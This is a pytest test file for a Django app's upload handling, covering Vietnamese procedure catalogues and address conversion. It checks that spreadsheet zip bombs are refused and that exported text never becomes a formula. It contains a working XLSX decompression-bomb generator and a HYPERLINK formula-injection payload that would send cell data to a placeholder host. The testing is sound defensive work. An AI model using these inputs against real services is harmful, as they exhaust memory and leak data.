"""An uploaded XLSX cannot take a process's memory: a zip bomb is refused before it is parsed.

Issue 13: a 490 KB XLSX raised a worker from 185 to 562 MB and kept it. The files here are
made the same way: a part of highly repetitive XML that deflate packs hundreds of times.
"""

from __future__ import annotations

import csv
import io
import tracemalloc
import uuid
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook

from lienthong.catalog import files as catalog_files
from lienthong.core import spreadsheets
from lienthong.core.spreadsheets import SpreadsheetRefused, XlsxLimits
from lienthong.geo import files as geo_files
from tests.factories import UserFactory

CONTENT_TYPES = "[Content_Types].xml"
RELS = "xl/_rels/workbook.xml.rels"
SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
SST_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def _workbook(rows: list[list[object]], *, write_only: bool = False) -> bytes:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet() if write_only else book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


HEADER = ["Mã thủ tục", "Tên thủ tục", "Địa chỉ"]


def shared_strings_bomb(strings: int = 600_000) -> bytes:
    """A valid XLSX of two rows plus a shared-strings part of ``strings`` entries
    (~24 MB of XML, ~70 KB packed): what openpyxl holds whole in memory."""
    source = zipfile.ZipFile(io.BytesIO(_workbook([HEADER, ["1.000001", "Thủ tục", "Xã"]])))
    sst = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'count="{strings}" uniqueCount="{strings}">'
        + "<si><t>Thủ tục hành chính</t></si>" * strings
        + "</sst>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename == CONTENT_TYPES:
                body = body.replace(
                    b"</Types>",
                    f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SST_TYPE}"/>'
                    "</Types>".encode(),
                )
            elif info.filename == RELS:
                body = body.replace(
                    b"</Relationships>",
                    f'<Relationship Id="rId99" Type="{SST_REL}" Target="sharedStrings.xml"/>'
                    "</Relationships>".encode(),
                )
            archive.writestr(info.filename, body)
        archive.writestr("xl/sharedStrings.xml", sst)
    return out.getvalue()


@pytest.fixture(scope="module")
def bomb() -> bytes:
    data = shared_strings_bomb()
    assert len(data) < 200_000
    infos = zipfile.ZipFile(io.BytesIO(data)).infolist()
    [sst] = [i for i in infos if "sharedStrings" in i.filename]
    assert sst.file_size > 20_000_000
    return data


# ------------------------------------------------------------------ the guard itself


def test_a_high_ratio_part_is_refused_from_the_zip_directory_alone(bomb):
    with pytest.raises(SpreadsheetRefused) as refused:
        spreadsheets.check_archive(io.BytesIO(bomb), XlsxLimits(10**10, max_rows=10))
    assert refused.value.code == "compression_ratio"
    assert "xl/sharedStrings.xml" in refused.value.message
    assert "quá 100 lần" in refused.value.message


def test_an_ordinary_workbook_passes_and_the_stream_is_rewound():
    stream = io.BytesIO(_workbook([HEADER, ["1.000001", "Thủ tục", "Xã"]]))
    stream.seek(10)
    spreadsheets.check_archive(stream, catalog_files.LIMITS)
    assert stream.tell() == 0


def test_a_small_part_may_pack_very_well():
    # 500 KB of one repeated row packs ~500 times; under the grace size it is harmless.
    data = _workbook([HEADER] + [["1.000001", "Thủ tục", "Xã"]] * 4000)
    spreadsheets.check_archive(io.BytesIO(data), catalog_files.LIMITS)


@pytest.mark.parametrize(
    ("limits", "code"),
    [
        (XlsxLimits(max_uncompressed=1000, max_rows=10), "too_large"),
        (XlsxLimits(max_uncompressed=10**9, max_rows=10, max_members=3), "too_many_parts"),
        (XlsxLimits(10**9, max_rows=10, max_shared_strings=1_000_000), "compression_ratio"),
    ],
)
def test_each_limit_has_its_own_code(bomb, limits, code):
    data = bomb if code == "compression_ratio" else _workbook([HEADER])
    with pytest.raises(SpreadsheetRefused) as refused:
        spreadsheets.check_archive(io.BytesIO(data), limits)
    assert refused.value.code == code


def test_large_shared_strings_are_refused_even_when_they_pack_ordinarily(tmp_path):
    limits = XlsxLimits(10**9, max_rows=10, max_ratio=10**6, max_shared_strings=1_000_000)
    with pytest.raises(SpreadsheetRefused) as refused:
        spreadsheets.check_archive(io.BytesIO(shared_strings_bomb(100_000)), limits)
    assert refused.value.code == "too_large"


def test_something_that_is_not_a_zip_is_unreadable():
    with pytest.raises(SpreadsheetRefused) as refused:
        spreadsheets.check_archive(io.BytesIO(b"PK\x03\x04 not really"), catalog_files.LIMITS)
    assert refused.value.code == "unreadable"


# ------------------------------------------------------------------ the catalogue import


def test_the_catalogue_import_refuses_the_bomb_before_parsing_it(bomb):
    tracemalloc.start()
    try:
        rows = list(catalog_files.read_rows(io.BytesIO(bomb), "danh-muc.xlsx"))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [(n, p.code) for n, p in rows] == [(1, "compression_ratio")]  # type: ignore[union-attr]
    # Parsing it took ~150 MB (measured before the guard); refusing it takes ~nothing.
    assert peak < 5 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"


@pytest.mark.django_db
def test_the_import_page_answers_422_with_the_reason(client, bomb):
    client.force_login(UserFactory(admin=True))
    upload = SimpleUploadedFile("danh-muc.xlsx", bomb)
    response = client.post("/can-bo/thu-tuc/nhap/", {"file": upload, "decision_number": ""})
    assert response.status_code == 422
    assert "Tệp Excel bị nén bất thường" in response.content.decode()


def test_a_catalogue_declaring_too_many_rows_is_refused_before_its_rows_are_read():
    rows = [HEADER] + [["1.000001", "Thủ tục", "Xã"]] * (catalog_files.LIMITS.max_rows + 1)
    found = list(catalog_files.read_rows(io.BytesIO(_workbook(rows)), "danh-muc.xlsx"))
    assert [(n, p.code) for n, p in found] == [(1, "too_many_rows")]  # type: ignore[union-attr]
    assert "10.000 dòng" in found[0][1].message  # type: ignore[union-attr]


def test_rows_past_the_limit_stop_the_reading_when_the_size_is_not_declared():
    rows = [HEADER] + [["1.000001", "Thủ tục", "Xã"]] * (catalog_files.LIMITS.max_rows + 5)
    data = _workbook(rows, write_only=True)  # write-only workbooks declare no <dimension>
    found = list(catalog_files.read_rows(io.BytesIO(data), "danh-muc.xlsx"))
    assert len(found) == catalog_files.LIMITS.max_rows + 1
    assert found[-1][1].code == "too_many_rows"  # type: ignore[union-attr]


def test_a_csv_is_bounded_too():
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(HEADER)
    writer.writerows([["1.000001", "Thủ tục", "Xã"]] * (catalog_files.LIMITS.max_rows + 1))
    found = list(catalog_files.read_rows(io.BytesIO(text.getvalue().encode()), "danh-muc.csv"))
    assert found[-1][1].code == "too_many_rows"  # type: ignore[union-attr]
    huge = io.BytesIO(b"x" * (catalog_files.LIMITS.max_uncompressed + 1))
    assert [(n, p.code) for n, p in catalog_files.read_rows(huge, "x.csv")] == [(1, "too_large")]  # type: ignore[union-attr]


# ------------------------------------------------------------------ the address conversion


@pytest.mark.django_db
def test_the_address_conversion_refuses_the_bomb_before_parsing_it(tmp_path: Path, bomb):
    src = tmp_path / "dia-chi.xlsx"
    src.write_bytes(bomb)
    tracemalloc.start()
    try:
        with pytest.raises(geo_files.FileFormatError) as refused:
            geo_files.count_rows(src)
        with pytest.raises(geo_files.FileFormatError):
            geo_files.convert_file(src, tmp_path / "ket-qua.xlsx", index=None)  # type: ignore[arg-type]
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert refused.value.code == "compression_ratio"
    assert peak < 5 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"


@pytest.mark.django_db
def test_a_bomb_uploaded_for_conversion_is_refused_and_not_stored(client, settings, tmp_path):
    from lienthong.geo.models import ConversionJob

    settings.MEDIA_ROOT = tmp_path
    client.force_login(UserFactory(official=True))
    upload = SimpleUploadedFile("a.xlsx", shared_strings_bomb())
    response = client.post("/dia-gioi/chuyen-doi-tep/", {"file": upload})
    assert response.status_code == 422
    assert "Tệp Excel bị nén bất thường" in response.content.decode()
    assert not ConversionJob.objects.exists()
    assert not any(tmp_path.rglob("*.xlsx"))


@pytest.mark.django_db
def test_a_bomb_already_stored_ends_its_job_as_failed_with_the_reason(settings, tmp_path):
    """A file stored before the check (or put there by other means) fails in the worker
    with the reason, instead of taking its memory."""
    from django.core.files.base import ContentFile

    from lienthong.geo.models import ConversionJob, JobStatus
    from lienthong.geo.services import run_conversion_job

    settings.MEDIA_ROOT = tmp_path
    job = ConversionJob.objects.create(
        uuid=uuid.uuid4(), owner=UserFactory(official=True), original_name="a.xlsx", column=""
    )
    job.input_file.save("a.xlsx", ContentFile(shared_strings_bomb()))
    run_conversion_job(str(job.uuid))
    job.refresh_from_db()
    assert job.status == JobStatus.FAILED
    assert job.error.startswith("Tệp Excel bị nén bất thường")


def test_an_export_never_turns_typed_text_into_a_formula():
    import io

    from openpyxl import load_workbook

    from lienthong.core.spreadsheets import xlsx_bytes

    body = xlsx_bytes("Nhật ký", ["Mục đích"], [['=HYPERLINK("http://x/?"&A1,"Xem")'], ["+1"]])
    sheet = load_workbook(io.BytesIO(body)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s", "s"]
    assert cells[0].value == '=HYPERLINK("http://x/?"&A1,"Xem")'
